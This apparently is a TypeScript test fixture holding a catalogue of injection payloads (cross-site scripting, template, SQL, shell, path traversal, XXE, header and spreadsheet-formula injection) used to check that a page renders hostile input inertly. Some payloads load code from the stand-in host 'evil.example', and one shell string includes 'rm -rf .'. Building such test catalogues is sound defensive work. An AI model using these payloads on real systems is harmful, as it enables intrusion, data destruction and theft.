/** What every payload tries to do: to set this name of the page's global object. */
export const RAN = "strataRan";

/** A host of which nothing may ever be asked. */
const EVIL = "evil.example";
const RUN = `globalThis.${RAN}=1`;
const IMAGE = `<img src=x onerror=${RUN}>`;

/** What a hostile author or link may say, wherever there is room for words. Nothing of it may run, become markup, or break what stands around it. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  // Markup
  script: `<script>${RUN}</script>`,
  "script that ends another": `</script><script>${RUN}</script>`,
  "script from elsewhere": `<script src=//${EVIL}/x.js></script>`,
  "script of an image": `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  "image with a handler": IMAGE,
  "drawing with a handler": `<svg/onload=${RUN}>`,
  "element that opens itself": `<details open ontoggle=${RUN}>`,
  "field that takes the focus": `<input autofocus onfocus=${RUN}>`,
  "body with a handler": `<body onload=${RUN}>`,
  "frame with a page": `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  "frame with a program": `<iframe src="javascript:parent.${RAN}=1"></iframe>`,
  object: `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  embed: `<embed src="//${EVIL}/x.swf">`,
  base: `<base href="//${EVIL}/">`,
  refresh: `<meta http-equiv="refresh" content="0;url=//${EVIL}/">`,
  stylesheet: `<link rel="stylesheet" href="//${EVIL}/x.css">`,
  style: `<style>@import "//${EVIL}/x.css";*{display:none}</style>`,
  form: `<form action="//${EVIL}/"><input name="q"><button>`,
  link: `<a href="javascript:${RUN}">x</a>`,
  "end of everything": `</title></textarea></style></noscript></template></main></body></html>${IMAGE}`,
  "markup that parsers move": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMAGE}">`,
  // Out of attributes, comments and other languages
  "double quote": `" autofocus onfocus="${RUN}`,
  "single quote": `' onmouseover='${RUN}`,
  "tag behind a double quote": `">${IMAGE}`,
  "tag behind a single quote": `'>${IMAGE}`,
  "no quote": `x onclick=${RUN} x`,
  backtick: `\`\` onclick=${RUN} \`\``,
  "comment that opens": "<!-- <b>",
  "comment that ends": `-->${IMAGE}`,
  "comment that ends oddly": `--!>${IMAGE}<!--`,
  "comment that is empty": `<!-->${IMAGE}-->`,
  "section of XML": `<![CDATA[${IMAGE}]]>`,
  "end of a section of XML": `]]>${IMAGE}`,
  instruction: `<?xml-stylesheet href="//${EVIL}/x.xsl"?><?php system("id"); ?>`,
  "entity of a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  "escaped tag": `&lt;img src=x onerror=${RUN}&gt;`,
  "escaped by number": `&#60;img src=x onerror=${RUN}&#x3e;`,
  "JSON that ends": `"}],"x":{"y":"\\"`,
  "JSON escapes": `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  // Templates and programs
  mustache: `{{constructor.constructor('${RUN}')()}}`,
  "template literal": `\${${RUN}}`,
  expression: `{${RUN}}`,
  "expression between comments": `{/* a */ ${RUN} /* b */}`,
  "template tag": `<%= ${RUN} %>#{7*7}`,
  "end of a string": `\\"];${RUN};//`,
  module: `import x from "//${EVIL}/x.js"; export default ${RUN}`,
  variables: "%constructor% %toString% %hasOwnProperty%",
  shell: "$(touch /tmp/x) `id`; rm -rf . | cat && true",
  query: "' OR 1=1; DROP TABLE pages; --",
  // Addresses
  "javascript:": `javascript:${RUN}`,
  "javascript: in any case": `JaVaScRiPt://%0a${RUN}`,
  "javascript: with entities": `java&Tab;script&colon;${RUN}`,
  "javascript: with a break": `java\nscript:${RUN}`,
  "data:": `data:text/html,<script>${RUN}</script>`,
  "vbscript:": "vbscript:MsgBox(1)",
  "other host": `//${EVIL}/`,
  "other host behind backslashes": `/\\${EVIL}/\\\\${EVIL}`,
  "path upwards": "../../../../etc/passwd",
  "path upwards, escaped": "..%2f..%2f..%5cetc%5cpasswd%00",
  "path of Windows": "..\\..\\con\\nul.txt",
  "per cent signs": "%3Cscript%3E%E0%A4%A%zz%",
  reference: 'href="strata:/guides/p00" src="strata:assets/logo.svg"',
  // Rules, tables and headers
  "line of a header": `x\r\nSet-Cookie: a=b\r\n\r\n${IMAGE}`,
  "line of a header, escaped": "x%0d%0aSet-Cookie:%20a=b",
  "line of Markdown": `x\n\n# Heading\n\n- [item](javascript:${RUN})\n---`,
  "rule of nginx": `; } location / { return 301 //${EVIL}; } #`,
  "rule of Apache": `" "//${EVIL}/$1"\nRedirect / //${EVIL}/`,
  "rule of _redirects": `/* //${EVIL}/:splat 301!`,
  formula: "=cmd|'/C calc'!A0",
  "formula with a plus": "+1+cmd",
  "formula with a minus": "-1+cmd",
  "formula with an at": "@SUM(1+1)",
  "formula behind a semicolon": "a;=1+1;b",
  "formula of full width": "\uFF1D1+1",
  "cells and rows": 'a","b\r\n"c,d\te',
  // Markdown
  "Markdown's link": `[x](javascript:${RUN}) <javascript:${RUN}>`,
  "Markdown's image": `![x](//${EVIL}/x.png)`,
  "Markdown's signs": "# *a* _b_ ~~c~~ | d | [^1] ``` ~~~ > + 1. [x]: y",
  "search's own words": "image[src], section:x, title:y",
  // Names and signs
  ["__proto__"]: "__proto__",
  constructor: "constructor",
  toString: "toString",
  "separators of lines": `a\u2028${RUN}\u2029b`,
  "writing that turns": "a\u202Egnp.exe\u202C \u2066b\u2069",
  "signs without width": "a\u200B\u200D\uFEFFb\u00AD",
  "signs in heaps": `Z${"\u0301\u0336".repeat(20)}\u{1F469}\u200D\u{1F4BB}`,
  pattern: "(a+)+$ [z-a] {9,1} .* \\k<x> $& $1 $' $`",
  long: "Long ".repeat(200).trim(),
  "long word": "W".repeat(1000),
  polyglot: `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
};

/** What content may not say at all, as nobody sees it, and links and storage may. */
export const UNSEEN: Readonly<Record<string, string>> = {
  "NUL byte": `a\0${IMAGE}`,
  "control characters": `\u0001java\u0008script:${RUN}\u007F\u009B`,
  "escape sequence of a terminal": "\u001B[31m\u001B]0;x\u0007",
  "half of a character": "\uD800a\uDC00",
  "no character": "\uFFFF\uFDD0",
};

/** A text that harms nobody, in the place of a payload. */
export const HARMLESS = "harmless";

/** A payload as a page shows it: one line. */
export function shown(payload: string): string {
  return payload.replace(/[\t\n\r\u2028\u2029 ]+/gu, " ").trim();
}
